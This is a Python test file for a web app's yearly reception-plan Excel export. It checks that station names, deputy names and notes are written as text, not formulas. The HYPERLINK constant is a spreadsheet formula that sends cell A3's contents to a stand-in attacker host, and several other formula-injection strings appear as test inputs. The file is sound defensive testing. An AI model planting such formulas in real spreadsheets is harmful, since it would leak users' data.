"""The year's reception plan download writes hostile station, deputy and note text as text."""
from __future__ import annotations

from datetime import date, datetime
from io import BytesIO

from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"点此查看")'


def test_year_plan_excel_writes_names_and_notes_as_text_and_figures_as_numbers(app, client, stations, login):
    from liaison.core.db import db
    from liaison.places.models import Deputy, Station
    from liaison.reception.models import ReceptionDay, RotaEntry

    with app.app_context():
        db.session.get(Station, stations.s).name = HYPERLINK
        db.session.get(Deputy, stations.deputies["王一"]).name = "+1+2"
        db.session.get(Deputy, stations.deputies["王二"]).name = "\t=1"
        plain = ReceptionDay(station_id=stations.s, date=date(2025, 4, 15), capacity=6, note="-2+3")
        duty = ReceptionDay(station_id=stations.s, date=date(2025, 5, 15), capacity=4, note="@SUM(A1)",
                            rota=[RotaEntry(deputy_id=stations.deputies["王一"]),
                                  RotaEntry(deputy_id=stations.deputies["王二"])])
        db.session.add_all([plain, duty])
        db.session.commit()
    r = client.get(f"/api/v1/stations/{stations.s}/reception-plan.xlsx?year=2025", headers=login("liaison-s"))
    assert r.status_code == 200
    ws = load_workbook(BytesIO(r.data)).active
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert (ws["A1"].data_type, ws["A1"].value) == ("s", f"{HYPERLINK} 2025 年度接待计划")
    first, second = list(ws.iter_rows(min_row=5))
    assert (second[4].data_type, second[4].value) == ("s", "+1+2、\t=1")  # the deputies on duty
    assert [(c.data_type, c.value) for c in (first[8], second[8])] == [("s", "-2+3"), ("s", "@SUM(A1)")]
    assert [c.value for c in first[:2]] == [1, datetime(2025, 4, 15)]
    assert [c.value for c in second[5:7]] == [4, 0] and second[5].data_type == "n"
